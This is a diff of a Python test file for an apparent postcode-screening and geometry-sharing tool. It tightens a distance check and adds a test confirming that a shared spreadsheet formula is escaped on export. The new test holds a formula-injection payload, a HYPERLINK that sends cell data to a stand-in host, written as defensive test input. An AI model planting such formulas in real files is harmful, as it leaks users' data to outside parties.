@@ -149,10 +149,14 @@ def test_with_geometry_level_everywhere_it_is_the_overlay_worked_out_by_others(c
     assert [[row[0], *row[2:4], row[5]] for row in rows] == [
         [row["postcode"], row["inside_refs"], row["nearest_ref"], row["within_500m_refs"]] for row in expected
     ]
-    assert [float(row[4]) for row in rows] == pytest.approx(
-        [float(row["nearest_distance_m"]) for row in expected], abs=0.051
-    )
-    assert (
-        sum(row[4] == f"{float(one['nearest_distance_m']):.1f}" for row, one in zip(rows, expected, strict=True))
-        >= 1_690
-    )
+    assert [row[4] for row in rows] == [f"{float(row['nearest_distance_m']):.1f}" for row in expected]
+
+
+def test_a_reference_that_a_spreadsheet_would_run_is_made_harmless_on_a_partners_desk(postcodes, tmp_path):
+    formula = '=HYPERLINK("https://elsewhere.example/?"&A1,"A1")'
+    publish(ROTHERHAM, square(formula), to=SHEFFIELD, level=Share.Level.GEOMETRY)
+    rows, _ = screen(tmp_path, "S60 1AA", "S60 1AB")
+    assert rows == [
+        ["S60 1AA", "near", f"'{formula}", "", "0.0", f"'{formula}"],
+        ["S60 1AB", "near", "", f"'{formula}", "300.0", f"'{formula}"],
+    ]
